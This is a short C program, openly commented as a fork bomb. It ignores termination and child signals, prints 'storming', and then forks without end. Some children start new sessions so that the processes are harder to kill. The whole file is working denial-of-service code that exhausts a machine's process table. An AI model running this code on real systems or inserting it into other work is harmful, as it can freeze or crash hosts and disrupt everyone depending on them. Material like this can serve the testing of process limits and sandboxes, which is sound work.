// A fork bomb: everybody has children as fast as he may, every other one in a session of his own, none hears TERM.
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
  signal(SIGTERM, SIG_IGN);
  signal(SIGCHLD, SIG_IGN); // the dead need no burial, and leave room at once
  puts("storming");
  fflush(stdout);
  if (fork() != 0) pause();
  for (;;) {
    pid_t child = fork();
    if (child < 0) usleep(5000);
    if (child == 0 && getpid() % 2 == 0) setsid();
  }
}
